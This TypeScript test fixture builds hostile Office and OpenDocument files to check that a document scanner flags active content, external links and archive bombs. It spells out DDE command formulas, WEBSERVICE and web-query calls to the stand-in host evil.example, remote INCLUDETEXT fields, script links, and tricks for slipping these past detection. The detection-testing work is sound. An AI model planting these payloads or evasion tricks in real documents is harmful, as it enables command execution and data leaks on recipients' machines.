import { hostile } from './hostile-files.ts'
import { docx, openDocument, relations, xlsx } from '../samples/index.ts'

const ACTIVE = 'ACTIVE_CONTENT'
const BOMB = 'ARCHIVE_BOMB'

const sheet = (cells: string, name = 'xl/worksheets/sheet1.xml') =>
  xlsx({
    parts: [{ name, data: `<worksheet><sheetData><row><c>${cells}</c></row></sheetData></worksheet>` }],
  })
const formula = (text: string) => sheet(`<f>${text}</f>`)
const part = (name: string, data: string) => xlsx({ parts: [{ name, data }] })
const document = (body: string) =>
  docx({ parts: [{ name: 'word/document.xml', data: `<w:p>${body}</w:p>` }] })
const field = (...runs: string[]) =>
  document(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:instrText>${run}</w:instrText>`).join('')}` +
      '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:t>result</w:t><w:fldChar w:fldCharType="end"/>',
  )
const table = (cell: string) =>
  openDocument('spreadsheet', {
    parts: [{ name: 'content.xml', data: `<office:body>${cell}</office:body>` }],
  })
const odt = (body: string) =>
  openDocument('text', { parts: [{ name: 'content.xml', data: `<office:body>${body}</office:body>` }] })
const web = 'http://evil.example/a'

/** A list: formulas that start a program or fetch from elsewhere. */
const formulas = (
  [
    ['DDE in a formula', "cmd|'/C calc'!A0"],
    ['DDE behind a sum', "SUM(1,2)+cmd|'/C calc'!A0"],
    ['DDE with its bar as an entity', "cmd&#124;'/C calc'!A0"],
    ['DDE in CDATA and a comment', "<![CDATA[cmd]]><!-- x -->|'/C calc'!A0"],
    ['WEBSERVICE', '_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)'],
    ['WEBSERVICE without its prefix', 'webservice (A1)'],
    ['WEBSERVICE by entities', '&#87;EB&#x53;ERVICE(A1)'],
    ['WEBSERVICE around a comment', 'WEB<!-- -->SERVICE(A1)'],
    ['WEBSERVICE as a value', '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f(A1))'],
    ['FILTERXML', '_xlfn.FILTERXML(A1,&quot;//a&quot;)'],
    ['IMAGE', '_xlfn.IMAGE(&quot;http://evil.example/a.png&quot;)'],
    ['RTD', 'RTD(&quot;a.b&quot;,,&quot;c&quot;)'],
    ['CALL', 'CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JJ&quot;)'],
    ['REGISTER', 'REGISTER(&quot;a&quot;)'],
    ['REGISTER.ID', 'REGISTER.ID(&quot;a&quot;)'],
  ] as const
).map(([label, text]) => hostile(label, 'a.xlsx', () => formula(text), ACTIVE))

/** A list: the same elsewhere in a workbook. */
const workbooks = [
  hostile(
    'DDE in a shared formula',
    'a.xlsx',
    () => sheet(`<f t="shared" ref="A1:A9" si="0">a|b!c</f>`),
    ACTIVE,
  ),
  hostile('DDE under a prefix', 'a.xlsx', () => sheet(`<x:f>a|b!c</x:f>`), ACTIVE),
  hostile(
    'DDE in a name',
    'a.xlsx',
    () =>
      part('xl/workbook.xml', `<workbook><definedName name="x">cmd|'/C calc'!A0</definedName></workbook>`),
    ACTIVE,
  ),
  hostile('WEBSERVICE in a condition', 'a.xlsx', () => sheet('<formula>WEBSERVICE(A1)</formula>'), ACTIVE),
  hostile('WEBSERVICE in a check', 'a.xlsx', () => sheet('<formula1>WEBSERVICE(A1)</formula1>'), ACTIVE),
  hostile('WEBSERVICE in an extension', 'a.xlsx', () => sheet('<xm:f>WEBSERVICE(A1)</xm:f>'), ACTIVE),
  hostile(
    'WEBSERVICE in a column of a table',
    'a.xlsx',
    () => part('xl/tables/table1.xml', '<calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula>'),
    ACTIVE,
  ),
  hostile(
    'WEBSERVICE in a sheet under the name of a picture',
    'a.xlsx',
    () => part('xl/media/image1.png', '\n<worksheet><f>WEBSERVICE(A1)</f></worksheet>'),
    ACTIVE,
  ),
  hostile(
    'WEBSERVICE cut by the pieces a file is read in',
    'a.xlsx',
    () => {
      const rows = Array.from({ length: 20_000 }, (_, i) => `<c r="A${i}"><v>${(i * 7_919) % 10_007}</v></c>`)
      return sheet(`${rows.join('')}<f>${' '.repeat(40_000)}WEBSERVICE(A1)</f>`)
    },
    ACTIVE,
  ),
  hostile(
    'link to an object',
    'a.xlsx',
    () => part('xl/externalLinks/externalLink1.xml', '<oleLink/>'),
    ACTIVE,
  ),
  hostile(
    'web query',
    'a.xlsx',
    () =>
      part(
        'xl/connections.xml',
        `<connections><connection id="1"><webPr url="${web}"/></connection></connections>`,
      ),
    ACTIVE,
  ),
  hostile('query table', 'a.xlsx', () => part('xl/queryTables/queryTable1.xml', '<queryTable/>'), ACTIVE),
  hostile(
    'connections under another name',
    'a.xlsx',
    () =>
      part(
        'xl/_rels/workbook.xml.rels',
        relations([{ type: 'connections', target: 'x.dat', external: false }]),
      ),
    ACTIVE,
  ),
  hostile('formula without end', 'a.xlsx', () => formula(noise(300_000)), BOMB),
  hostile(
    'elements without end',
    'a.xlsx',
    () => sheet(noise(40_000).replaceAll(/\d+/g, (n) => `<a${n}>`)),
    BOMB,
  ),
]

/** Digits that do not pack so well that the archive is a bomb by itself. */
function noise(length: number): string {
  let [text, seed] = ['', 1]
  while (text.length < length) {
    seed = (seed * 48_271) % 2_147_483_647
    text += `${seed} `
  }
  return text
}

/** A list: text documents. */
const documents = [
  hostile(
    'DDE behind another field',
    'a.docx',
    () => {
      const end = '<w:fldChar w:fldCharType="end"/>'
      const begin = '<w:fldChar w:fldCharType="begin"/>'
      return document(
        `${begin}<w:instrText>PAGE</w:instrText>${end}${begin}<w:instrText>DDEAUTO cmd</w:instrText>${end}`,
      )
    },
    ACTIVE,
  ),
  hostile('DDE by entities', 'a.docx', () => field('&#68;DE', 'AUTO c:\\\\cmd.exe'), ACTIVE),
  hostile(
    'DDE in a simple field',
    'a.docx',
    () => document('<w:fldSimple w:instr=" DDE&#65;UTO cmd "/>'),
    ACTIVE,
  ),
  hostile(
    'command that another field writes',
    'a.docx',
    () =>
      document(
        '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText>',
      ),
    ACTIVE,
  ),
  hostile('text from the web', 'a.docx', () => field(' INCLUDE', `TEXT "${web}" `), ACTIVE),
  hostile('text from another computer', 'a.docx', () => field('INCLUDETEXT \\\\\\\\host\\\\a.docx'), ACTIVE),
  hostile(
    'picture of a field from another computer',
    'a.docx',
    () => field('INCLUDEPICTURE "\\\\host\\a.png"'),
    ACTIVE,
  ),
  hostile(
    'picture of a field from the web',
    'a.docx',
    () => field(`INCLUDEPICTURE "${web}" \\* MERGEFORMATINET`),
    ['OFFICE_EXTERNAL_LINK'],
  ),
  hostile('table from a database', 'a.docx', () => field('DATABASE \\d "x" \\s "select 1"'), ACTIVE),
  hostile(
    'link of a field that is a script',
    'a.docx',
    () => field('HYPERLINK "javascript:alert(1)"'),
    ACTIVE,
  ),
  hostile('chunk', 'a.docx', () => document('<w:altChunk r:id="rId9"/>'), ACTIVE),
  ...['afchunk.htm', 'afchunk.mht', 'afchunk.rtf'].map((name) =>
    hostile(
      `part ${name}`,
      'a.docx',
      () => docx({ parts: [{ name: `word/${name}`, data: 'text' }] }),
      ACTIVE,
    ),
  ),
  ...['<html><script>x</script>', ' <!DOCTYPE html>', '{\\rtf1 x}', 'MIME-Version: 1.0\r\n'].map((data) =>
    hostile(
      `part of ${data.trim()}`,
      'a.docx',
      () => docx({ parts: [{ name: 'word/a.dat', data }] }),
      ACTIVE,
    ),
  ),
  hostile(
    'relation to a chunk',
    'a.docx',
    () =>
      docx({
        parts: [
          {
            name: 'word/_rels/document.xml.rels',
            data: relations([{ type: 'aFChunk', target: 'a.dat', external: false }]),
          },
        ],
      }),
    ACTIVE,
  ),
  hostile(
    'drawing with a script',
    'a.docx',
    () => docx({ parts: [{ name: 'word/media/a.svg', data: '<svg><script>x()</script></svg>' }] }),
    ACTIVE,
  ),
]

/** A list: OpenDocument. */
const openDocuments = [
  hostile(
    'DDE in a cell',
    'a.ods',
    () => table('<table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;)"/>'),
    ACTIVE,
  ),
  hostile(
    'DDE in the words of Excel',
    'a.ods',
    () => table(`<table:table-cell table:formula="msoxl:=cmd|'/C calc'!A0"/>`),
    ACTIVE,
  ),
  hostile(
    'WEBSERVICE',
    'a.ods',
    () => table('<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE([.A1])"/>'),
    ACTIVE,
  ),
  hostile(
    'WEBSERVICE in a name',
    'a.ods',
    () => table('<table:named-expression table:expression="WEBSERVICE([.A1])"/>'),
    ACTIVE,
  ),
  hostile('DDE link', 'a.ods', () => table('<table:dde-link/>'), ACTIVE),
  hostile('DDE of a text', 'a.odt', () => odt('<text:dde-connection-decl/>'), ACTIVE),
  hostile('table from the web', 'a.ods', () => table(`<table:table-source xlink:href="${web}"/>`), ACTIVE),
  hostile('table from the next folder', 'a.ods', () => table(`<table:table-source xlink:href="../a.ods"/>`), [
    'OFFICE_EXTERNAL_LINK',
  ]),
  hostile('database', 'a.ods', () => table('<table:database-source-sql/>'), ACTIVE),
  hostile('section from the web', 'a.odt', () => odt(`<text:section-source xlink:href="${web}"/>`), ACTIVE),
  hostile('frame from the web', 'a.odt', () => odt(`<draw:floating-frame xlink:href="${web}"/>`), ACTIVE),
  hostile(
    'picture from another computer',
    'a.odt',
    () => odt('<draw:image xlink:href="file://host/a.png"/>'),
    ACTIVE,
  ),
  hostile('picture from the web', 'a.odt', () => odt(`<draw:image xlink:href="${web}"/>`), [
    'OFFICE_EXTERNAL_LINK',
  ]),
  hostile(
    'link that runs a macro',
    'a.odt',
    () => odt('<text:a xlink:href="vnd.sun.star.script:a"/>'),
    ACTIVE,
  ),
]

export const hostileOffice = [...formulas, ...workbooks, ...documents, ...openDocuments]
